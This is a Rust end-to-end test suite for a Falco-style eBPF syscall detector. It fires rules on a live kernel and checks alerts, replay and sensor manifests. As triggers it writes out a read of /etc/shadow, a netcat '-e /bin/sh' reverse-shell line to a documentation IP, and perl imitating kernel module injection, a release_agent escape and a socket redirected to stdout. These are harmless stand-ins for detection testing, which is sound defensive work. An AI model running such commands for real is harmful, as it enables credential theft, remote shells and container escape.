//! End-to-end: `kubeward detect --live` on the real kernel (root and kernel BTF, else
//! skipped with the reason printed), stopped by SIGINT, recorded with `--write`, and the
//! recording replayed by `kubeward detect FILE` to the same alerts; and the errors a
//! user without the privileges or the rules meets (these need no root).

use std::io::{BufRead, BufReader};
use std::os::unix::process::CommandExt as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

use crate::common::{KUBEWARD, kubeward};
use kubeward_testkit::cli::Fixture;
use serde_json::Value;

pub(crate) fn falco_rules() -> Option<PathBuf> {
    let p = kubeward_testkit::upstream::dir().join("falco_rules.yaml");
    if p.exists() {
        Some(p)
    } else {
        println!("skipping: {} is absent", p.display());
        None
    }
}

/// Whether this process runs as root (`/proc/self` belongs to the effective user).
fn is_root() -> bool {
    use std::os::unix::fs::MetadataExt as _;
    std::fs::metadata("/proc/self").is_ok_and(|m| m.uid() == 0)
}

pub(crate) fn can_capture() -> bool {
    if !Path::new("/sys/kernel/btf/vmlinux").exists() {
        println!("skipping: no kernel BTF at /sys/kernel/btf/vmlinux");
        return false;
    }
    if !is_root() {
        println!("skipping: not root (the probe needs root, or CAP_BPF with CAP_PERFMON)");
        return false;
    }
    true
}

/// Starts `cmd` (the kubeward binary with extra arguments) as `detect --live --format
/// json …` with both streams piped, and returns once the capture announced itself.
fn start_live(cmd: &mut Command) -> (std::process::Child, BufReader<std::process::ChildStderr>) {
    let mut full = Command::new(cmd.get_program());
    full.env_remove("NODE_NAME").env("FALCO_HOSTNAME", "h1");
    for (k, v) in cmd.get_envs() {
        match v {
            Some(v) => full.env(k, v),
            None => full.env_remove(k),
        };
    }
    let mut child = full
        .args(["detect", "--live", "--format", "json"])
        .args(cmd.get_args())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn kubeward");
    let mut stderr = BufReader::new(child.stderr.take().expect("stderr"));
    let mut line = String::new();
    while !line.contains("Ctrl-C stops") {
        line.clear();
        let n = stderr.read_line(&mut line).expect("read stderr");
        assert!(n > 0, "kubeward exited before capturing");
    }
    (child, stderr)
}

/// The alerts of a `--format json` run, one object per line.
fn alerts(stdout: &str) -> Vec<Value> {
    stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap_or_else(|e| panic!("{e}: {l}")))
        .collect()
}

#[test]
fn live_alerts_stop_on_sigint_and_replay_identically() {
    let Some(rules) = falco_rules() else { return };
    if !can_capture() {
        return;
    }
    let fx = Fixture::new(&[]);
    let recording = fx.path("node.kwcap");
    let link = fx.path("shadow-link");
    // A rule of the test's own on the environment an exec passes.
    let env_rule = fx.path("env.yaml");
    std::fs::write(
        &env_rule,
        "- rule: Marked environment\n  desc: d\n  condition: evt.type = execve and proc.name = kw-env\n  output: \"mark=%proc.env[KW_MARK]\"\n  priority: NOTICE\n- rule: Class file received\n  desc: d\n  condition: evt.type = recvfrom and evt.buffer bcontains cafebabe and proc.name = perl\n  output: \"got %fd.name\"\n  priority: NOTICE\n- rule: Named server\n  desc: d\n  condition: evt.type = connect and fd.sip.name = localhost and proc.name = perl\n  output: \"to %fd.sip.name\"\n  priority: NOTICE\n",
    )
    .expect("rule");
    let kw_env = fx.path("kw-env");
    install_executable("/bin/true", &kw_env);
    let mut cmd = Command::new(KUBEWARD.path());
    cmd.args(["--stats", "--duration", "60s", "--write"])
        .arg(&recording)
        .arg("-r")
        .arg(&rules)
        .arg("-r")
        .arg(&env_rule);
    let (child, mut stderr) = start_live(&mut cmd);
    // Triggers of two stable rules, as falcosecurity/event-generator runs them.
    let status = Command::new("cat")
        .arg("/etc/shadow")
        .stdout(Stdio::null())
        .status()
        .expect("cat");
    assert!(status.success());
    std::os::unix::fs::symlink("/etc/shadow", &link).expect("symlink");
    let status = Command::new(&kw_env)
        .env("KW_MARK", "from-the-exec")
        .status()
        .expect("kw-env");
    assert!(status.success());
    // A class file's magic received on a TCP socket (perl's recv is recvfrom).
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
    let port = listener.local_addr().expect("addr").port();
    let server = std::thread::spawn(move || {
        use std::io::Write as _;
        let (mut conn, _) = listener.accept().expect("accept");
        conn.write_all(&[0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34])
            .expect("send");
    });
    let status = Command::new("perl")
        .args(["-MSocket", "-e"])
        .arg(format!(
            "socket(my $s, PF_INET, SOCK_STREAM, 0) or die; connect($s, pack_sockaddr_in({port}, inet_aton('127.0.0.1'))) or die; defined(recv($s, my $b, 64, 0)) or die"
        ))
        .status()
        .expect("perl");
    assert!(status.success());
    server.join().expect("server");
    // Records are drained every millisecond; give the last ones time to arrive.
    std::thread::sleep(Duration::from_millis(300));
    let sent = Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status()
        .expect("kill");
    assert!(sent.success());
    let out = child.wait_with_output().expect("wait");
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut stderr, &mut rest).expect("stderr");
    assert_eq!(out.status.code(), Some(0), "stderr: {rest}");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let live = alerts(&stdout);
    let shadow = live
        .iter()
        .find(|a| {
            a["rule"] == "Read sensitive file untrusted" && a["output_fields"]["proc.name"] == "cat"
        })
        .unwrap_or_else(|| panic!("no shadow read alert in {stdout}"));
    assert_eq!(shadow["priority"], "Warning");
    assert_eq!(shadow["source"], "syscall");
    assert_eq!(shadow["output_fields"]["fd.name"], "/etc/shadow");
    assert!(
        live.iter()
            .any(|a| a["rule"] == "Create Symlink Over Sensitive Files"
                && a["output_fields"]["evt.arg.linkpath"] == link.to_str().unwrap()),
        "{stdout}"
    );
    assert!(
        live.iter().any(|a| a["rule"] == "Marked environment"
            && a["output_fields"]["proc.env[KW_MARK]"] == "from-the-exec"),
        "{stdout}"
    );
    // The name the rule compares fd.sip.name with was resolved (/etc/hosts) at start.
    assert!(
        live.iter().any(
            |a| a["rule"] == "Named server" && a["output_fields"]["fd.sip.name"] == "localhost"
        ),
        "{stdout}"
    );
    assert!(
        live.iter().any(|a| a["rule"] == "Class file received"
            && a["output_fields"]["fd.name"]
                .as_str()
                .is_some_and(|n| n.ends_with(&format!("->127.0.0.1:{port}")))),
        "{stdout}"
    );
    assert!(rest.contains("stats:\n  kernel: "), "{rest}");
    assert!(rest.contains(", 0 dropped (ring buffer full)"), "{rest}");
    assert!(rest.contains("kubeward detect: "), "{rest}");

    // The recording replays without privileges to exactly the same alerts.
    let replay = kubeward()
        .args(["detect", "--format", "json", "-r"])
        .arg(&rules)
        .arg("-r")
        .arg(&env_rule)
        .arg(&recording)
        .output()
        .expect("replay");
    assert_eq!(replay.status.code(), Some(0));
    assert_eq!(String::from_utf8_lossy(&replay.stdout), stdout);
}

#[test]
fn live_without_syscall_rules_is_unusable() {
    // The embedded ruleset is k8s_audit only: nothing to run, said before any capture.
    assert_unusable(
        kubeward().args(["detect", "--live", "--duration", "1s"]),
        &[
            "none of the enabled rules is of source syscall",
            "-r falco_rules.yaml",
        ],
    );
}

/// Runs `cmd`, which must exit 2 with each of `needles` on stderr.
fn assert_unusable(cmd: &mut assert_cmd::Command, needles: &[&str]) {
    let out = cmd.output().expect("run");
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{err}");
    for needle in needles {
        assert!(err.contains(needle), "{needle}: {err}");
    }
}

#[test]
fn live_options_need_live() {
    for extra in [
        &["--duration", "1s"][..],
        &["--write", "x.kwcap"],
        &["--buffer-size", "65536"],
    ] {
        let out = kubeward().arg("detect").args(extra).output().expect("run");
        assert_eq!(out.status.code(), Some(2), "{extra:?}");
        assert!(
            String::from_utf8_lossy(&out.stderr).contains("--live"),
            "{extra:?}"
        );
    }
    let out = kubeward()
        .args(["detect", "--live", "--follow", "a.log"])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
}

#[test]
fn live_without_capabilities_names_them() {
    let Some(rules) = falco_rules() else { return };
    if !is_root() {
        println!("skipping: dropping to an unprivileged user needs root");
        return;
    }
    let out = Command::new(KUBEWARD.path())
        .env_remove("NODE_NAME")
        .args(["detect", "--live", "--duration", "1s", "-r"])
        .arg(&rules)
        .uid(65534)
        .gid(65534)
        .output();
    let out = match out {
        Ok(o) => o,
        Err(e) => {
            println!("skipping: cannot run the binary as nobody ({e})");
            return;
        }
    };
    let err = String::from_utf8_lossy(&out.stderr);
    if err.contains("Permission denied") && err.contains("rules file") {
        println!("skipping: nobody cannot read {}", rules.display());
        return;
    }
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(
        err.contains("missing CAP_BPF and CAP_PERFMON: run as root"),
        "{err}"
    );
}

#[test]
fn damaged_recording_is_unusable() {
    let Some(rules) = falco_rules() else { return };
    // A file that starts like a recording but is cut short: unusable, said with the file.
    let fx = Fixture::new(&[]);
    let path = fx.path("cut.kwcap");
    std::fs::write(&path, b"KWSYSCAP\x01").expect("write");
    let out = kubeward()
        .args(["detect", "-r"])
        .arg(&rules)
        .arg(&path)
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(2));
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        err.contains("cut.kwcap: damaged syscall recording"),
        "{err}"
    );
    // A recording was given: no note that the syscall rules lacked events.
    assert!(!err.contains("saw no events"), "{err}");
}

#[test]
fn sensor_manifests_hold_least_privilege() {
    let dir = tempfile::tempdir().expect("tempdir");
    let run = crate::common::run(
        dir.path(),
        &["detect", "manifests", "--namespace", "sensors"],
    );
    assert_eq!(run.code, 0, "{}", run.stderr);
    let docs = crate::common::documents("sensor.yaml", &run.stdout);
    let kinds: Vec<&str> = docs.iter().filter_map(|d| d["kind"].as_str()).collect();
    assert_eq!(
        kinds,
        [
            "Namespace",
            "ServiceAccount",
            "ClusterRole",
            "ClusterRoleBinding",
            "DaemonSet"
        ]
    );
    // Reading pods, nothing else.
    assert_eq!(
        docs[2]["rules"],
        serde_json::json!([{"apiGroups": [""], "resources": ["pods"], "verbs": ["get", "list", "watch"]}])
    );
    assert_eq!(docs[3]["subjects"][0]["namespace"], "sensors");
    assert_eq!(
        docs[0]["metadata"]["labels"]["pod-security.kubernetes.io/enforce"],
        "privileged"
    );
    let ds = &docs[4];
    assert_eq!(ds["metadata"]["namespace"], "sensors");
    let pod = &ds["spec"]["template"]["spec"];
    assert_eq!(pod["hostPID"], true);
    assert_eq!(pod["hostNetwork"], Value::Null);
    assert_eq!(pod["serviceAccountName"], "kubeward-sensor");
    let c = &pod["containers"][0];
    assert_eq!(
        c["args"],
        serde_json::json!([
            "detect",
            "--live",
            "-r",
            "/etc/kubeward/rules",
            "--format",
            "json"
        ])
    );
    assert!(
        c["env"]
            .as_array()
            .expect("env")
            .iter()
            .any(|e| e["name"] == "NODE_NAME"
                && e["valueFrom"]["fieldRef"]["fieldPath"] == "spec.nodeName"),
        "{c}"
    );
    let sc = &c["securityContext"];
    assert_eq!(sc["privileged"], false);
    assert_eq!(sc["readOnlyRootFilesystem"], true);
    assert_eq!(sc["allowPrivilegeEscalation"], false);
    assert_eq!(sc["capabilities"]["drop"], serde_json::json!(["ALL"]));
    assert_eq!(
        sc["capabilities"]["add"],
        serde_json::json!(["BPF", "PERFMON", "SYS_PTRACE", "DAC_READ_SEARCH"])
    );
    // Every host path is mounted read-only.
    let mounts = c["volumeMounts"].as_array().expect("mounts");
    assert!(mounts.iter().all(|m| m["readOnly"] == true), "{mounts:?}");

    // kubeward's own scan agrees: privileged only (hostPID and the added capabilities
    // break baseline), nothing else.
    std::fs::write(dir.path().join("sensor.yaml"), &run.stdout).expect("write");
    let scan = crate::common::run(
        dir.path(),
        &["scan", "--level", "baseline", "--no-lint", "sensor.yaml"],
    );
    assert_eq!(scan.code, 1, "{}", scan.stdout);
    kubeward_testkit::has(&scan.stdout, "hostPID=true");
    kubeward_testkit::has(&scan.stdout, "BPF");
    let scan = crate::common::run(
        dir.path(),
        &["scan", "--level", "privileged", "--no-lint", "sensor.yaml"],
    );
    assert_eq!(scan.code, 0, "{}", scan.stdout);
}

#[test]
fn syscall_fields_say_which_are_not_available() {
    let out = kubeward()
        .args(["rules", "fields", "--source", "syscall", "--format", "json"])
        .output()
        .expect("run");
    assert_eq!(out.status.code(), Some(0));
    let fields: Vec<Value> = serde_json::from_slice(&out.stdout).expect("json");
    let available = |name: &str| {
        fields
            .iter()
            .find(|f| f["name"] == name)
            .unwrap_or_else(|| panic!("no field {name}"))["available"]
            .clone()
    };
    assert_eq!(available("proc.name"), true);
    assert_eq!(available("fd.name"), true);
    assert_eq!(available("proc.env"), true);
    assert_eq!(available("evt.buffer"), true);
    assert_eq!(available("proc.vmrss"), false);
    assert_eq!(available("fd.sip.name"), true);
    assert_eq!(available("thread.cpu"), false);
    assert_eq!(available("k8s.pod.name"), true);
    assert_eq!(available("k8s.deployment.name"), false);
    let text = kubeward()
        .args(["rules", "fields", "--source", "syscall"])
        .output()
        .expect("run");
    let text = String::from_utf8_lossy(&text.stdout);
    let env = text.find("\n  thread.cpu ").expect("thread.cpu listed");
    assert!(
        text[env..]
            .lines()
            .take(4)
            .any(|l| l.contains("(not available yet: always <NA>)"))
    );
}

/// A loopback API server that lists `pods` for any pod list request and holds watch
/// requests open without events; returns its URL.
fn fake_api(pods: Value) -> String {
    use std::io::{Read as _, Write as _};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
    let url = format!("http://{}", listener.local_addr().expect("addr"));
    let list = serde_json::json!({"apiVersion": "v1", "kind": "PodList",
        "metadata": {"resourceVersion": "1"}, "items": pods})
    .to_string();
    std::thread::spawn(move || {
        for conn in listener.incoming() {
            let Ok(mut conn) = conn else { continue };
            let list = list.clone();
            std::thread::spawn(move || {
                let mut buf = [0u8; 8192];
                let n = conn.read(&mut buf).unwrap_or(0);
                let head = String::from_utf8_lossy(&buf[..n]).to_string();
                if head.contains("watch=true") || head.contains("watch=1") {
                    let _ = conn.write_all(b"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n");
                    // Quiet until the client goes away.
                    std::thread::sleep(Duration::from_secs(120));
                    return;
                }
                let _ = write!(
                    conn,
                    "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{list}",
                    list.len()
                );
            });
        }
    });
    url
}

/// The cgroup directory a test container's processes join: under the unified hierarchy
/// on cgroup v2, under the memory controller on v1 (where the probe reads it).
fn cgroup_root() -> Option<PathBuf> {
    let v2 = Path::new("/sys/fs/cgroup");
    if v2.join("cgroup.controllers").exists() {
        return Some(v2.to_path_buf());
    }
    let memory = v2.join("memory");
    memory.join("cgroup.procs").exists().then_some(memory)
}

/// Container rules in a real container cgroup (kubelet's cgroupfs layout, a
/// runtime-style 64-hex id) on the live kernel, with the container's metadata from the
/// node's pod watch against an in-test API server: the rule that needs
/// `container.privileged=true` fires only through that metadata.
#[test]
fn container_rules_fire_in_a_container_cgroup_with_pod_metadata() {
    let Some(rules) = falco_rules() else { return };
    if !can_capture() {
        return;
    }
    let Some(root) = cgroup_root() else {
        println!("skipping: no writable cgroup hierarchy found");
        return;
    };
    let nanos = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .map_or(0, |d| d.as_nanos());
    // 64 hex digits, unique per run, as a runtime's container id.
    let id = format!(
        "{:016x}{:016x}{:032x}",
        nanos as u64,
        u64::from(std::process::id()),
        nanos
    );
    let pod_dir = root.join(format!("kubepods/besteffort/pod-kw-{}", &id[..8]));
    let cgroup = pod_dir.join(&id);
    if let Err(e) = std::fs::create_dir_all(&cgroup) {
        println!("skipping: cannot create {} ({e})", cgroup.display());
        return;
    }
    let pod = serde_json::json!({
        "metadata": {"name": "tools-1", "namespace": "ops", "uid": "uid-kw-1",
                     "labels": {"app": "tools"}},
        "spec": {"nodeName": "kw-node", "containers": [{"name": "tools", "image": "ops/tools:2",
                 "securityContext": {"privileged": true}}]},
        "status": {"podIP": "10.244.0.9", "containerStatuses": [{"name": "tools",
                   "image": "docker.io/ops/tools:2", "imageID": "docker.io/ops/tools@sha256:ab",
                   "containerID": format!("containerd://{id}"), "ready": true,
                   "restartCount": 0}]}
    });
    let fx = Fixture::new(&[]);
    let kubeconfig = fx.path("kubeconfig");
    std::fs::write(
        &kubeconfig,
        format!(
            "apiVersion: v1\nkind: Config\nclusters:\n- name: t\n  cluster:\n    server: {}\nusers:\n- name: u\n  user:\n    token: t\ncontexts:\n- name: c\n  context:\n    cluster: t\n    user: u\ncurrent-context: c\n",
            fake_api(serde_json::json!([pod]))
        ),
    )
    .expect("kubeconfig");
    // The rules plus one of the test's own that prints the pod metadata.
    let meta_rule = fx.path("meta.yaml");
    std::fs::write(
        &meta_rule,
        "- rule: Pod metadata\n  desc: d\n  condition: evt.type in (execve, execveat) and evt.dir = < and proc.name = kw-meta\n  output: \"c=%container.id n=%container.name img=%container.image.repository p=%container.privileged pod=%k8s.ns.name/%k8s.pod.name app=%k8s.pod.label[app]\"\n  priority: NOTICE\n",
    )
    .expect("rule");
    let mut cmd = Command::new(KUBEWARD.path());
    cmd.env("KUBECONFIG", &kubeconfig)
        .env_remove("KUBERNETES_SERVICE_HOST")
        .args(["--k8s-node", "kw-node", "-r"])
        .arg(&rules)
        .arg("-r")
        .arg(&meta_rule);
    let (child, mut stderr) = start_live(&mut cmd);
    // The watch lists the node's pods right after the capture starts.
    std::thread::sleep(Duration::from_millis(700));
    let debugfs = fx.path("debugfs");
    let kw_meta = fx.path("kw-meta");
    let nc = fx.path("nc");
    for copy in [&debugfs, &kw_meta, &nc] {
        install_executable("/bin/true", copy);
    }
    // Each process joins the container's cgroup, then execs the trigger.
    let in_container = |command: &str| {
        let status = Command::new("sh")
            .arg("-c")
            .arg(format!(
                "echo $$ > {}/cgroup.procs && exec {command}",
                cgroup.display(),
            ))
            .status()
            .expect("sh");
        assert!(status.success(), "{command}");
    };
    in_container(&format!("{} /dev/sda1", debugfs.display()));
    in_container(&format!("{} /dev/sda1", kw_meta.display()));
    // event-generator's container actions: netcat with -e, then one perl process that
    // opens a packet socket, loads a kernel module (a bad fd: the attempt is what
    // counts), opens a release_agent for writing and puts a TCP socket on its stdout.
    in_container(&format!("{} -e /bin/sh 203.0.113.9 4444", nc.display()));
    let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("listener");
    let port = listener.local_addr().expect("addr").port();
    let perl = format!(
        "perl -MSocket -MPOSIX -e 'socket(my $p, 17, 3, 768); my $e = \"\"; syscall(313, -1, $e, 0); \
         open(my $r, \">\", \"{}\"); socket(my $s, PF_INET, SOCK_STREAM, 0); \
         connect($s, pack_sockaddr_in({port}, inet_aton(\"127.0.0.1\"))) or die; \
         POSIX::dup2(fileno($s), 1) or die'",
        fx.path("release_agent").display()
    );
    in_container(&perl);
    // A shell with a terminal started by the runtime's shim: script(1) gives the pty, a
    // shell copied as `containerd-shim` joins the cgroup and runs bash.
    let shim = fx.path("containerd-shim");
    install_executable("/bin/sh", &shim);
    let terminal = Command::new("script")
        .args(["-qec"])
        .arg(format!(
            "exec {} -c 'echo $$ > {}/cgroup.procs && bash -c true'",
            shim.display(),
            cgroup.display()
        ))
        .arg("/dev/null")
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .status()
        .is_ok_and(|s| s.success());
    // A binary written into an overlay's upper layer, then run (a container's root is an
    // overlay; the probe flags executables of its upper layer).
    let layers = ["lower", "upper", "work", "merged"].map(|d| fx.path(d));
    layers
        .iter()
        .for_each(|d| std::fs::create_dir_all(d).expect("layer dir"));
    let overlay = Command::new("mount")
        .args(["-t", "overlay", "overlay", "-o"])
        .arg(format!(
            "lowerdir={},upperdir={},workdir={}",
            layers[0].display(),
            layers[1].display(),
            layers[2].display()
        ))
        .arg(&layers[3])
        .status()
        .is_ok_and(|s| s.success());
    let dropped = layers[3].join("dropped");
    if overlay {
        install_executable("/bin/true", &dropped);
        in_container(&dropped.display().to_string());
    }
    std::thread::sleep(Duration::from_millis(300));
    let _ = Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status();
    let out = child.wait_with_output().expect("wait");
    if overlay {
        let _ = Command::new("umount").arg(&layers[3]).status();
    }
    let _ = std::fs::remove_dir(&cgroup);
    let _ = std::fs::remove_dir(&pod_dir);
    let mut rest = String::new();
    std::io::Read::read_to_string(&mut stderr, &mut rest).expect("stderr");
    assert_eq!(out.status.code(), Some(0), "{rest}");
    let stdout = String::from_utf8_lossy(&out.stdout);
    let fired = alerts(&stdout);
    let short = &id[..12];
    let meta = fired
        .iter()
        .find(|a| a["rule"] == "Pod metadata")
        .unwrap_or_else(|| panic!("no metadata alert in {stdout}\n{rest}"));
    let mut fields = meta["output_fields"].clone();
    fields.as_object_mut().map(|f| f.remove("evt.time"));
    assert_eq!(
        fields,
        serde_json::json!({"container.id": short, "container.name": "tools",
            "container.image.repository": "docker.io/ops/tools", "container.privileged": true,
            "k8s.ns.name": "ops", "k8s.pod.name": "tools-1", "k8s.pod.label[app]": "tools"})
    );
    for (rule, process) in [
        ("Debugfs Launched in Privileged Container", "debugfs"),
        ("Netcat Remote Code Execution in Container", "nc"),
        ("Packet socket created in container", "perl"),
        ("Linux Kernel Module Injection Detected", "perl"),
        ("Detect release_agent File Container Escapes", "perl"),
        (
            "Redirect STDOUT/STDIN to Network Connection in Container",
            "perl",
        ),
        ("Terminal shell in container", "bash"),
        ("Drop and execute new binary in container", "dropped"),
    ] {
        if (process == "bash" && !terminal) || (process == "dropped" && !overlay) {
            println!("{rule}: its trigger could not run here (script(1) or an overlay mount)");
            continue;
        }
        assert!(
            fired
                .iter()
                .any(|a| a["rule"] == rule && a["output_fields"]["proc.name"] == process),
            "{rule} ({process}) did not fire: {stdout}"
        );
    }
}

#[test]
fn pod_metadata_without_a_cluster_is_unusable_and_says_how_to_go_on() {
    let Some(rules) = falco_rules() else { return };
    let fx = Fixture::new(&[]);
    let mut cmd = kubeward();
    cmd.env("KUBECONFIG", fx.path("absent"))
        .env("HOME", fx.path(""))
        .env_remove("KUBERNETES_SERVICE_HOST")
        .env_remove("KUBERNETES_SERVICE_PORT")
        .args(["detect", "--live", "--k8s-node", "n1", "-r"])
        .arg(&rules);
    assert_unusable(
        &mut cmd,
        &[
            "pod metadata for node n1: no cluster configuration",
            "drop --k8s-node (and NODE_NAME)",
        ],
    );
}

/// Copies an executable by a child `install`, so that the copy is never open for writing
/// in the test process, where a child forked by another test thread could inherit it and
/// make executing the copy fail with ETXTBSY.
fn install_executable(src: &str, dst: &std::path::Path) {
    let status = Command::new("install")
        .args(["-m", "0755", src])
        .arg(dst)
        .status()
        .expect("install runs");
    assert!(status.success(), "install {src} {}", dst.display());
}
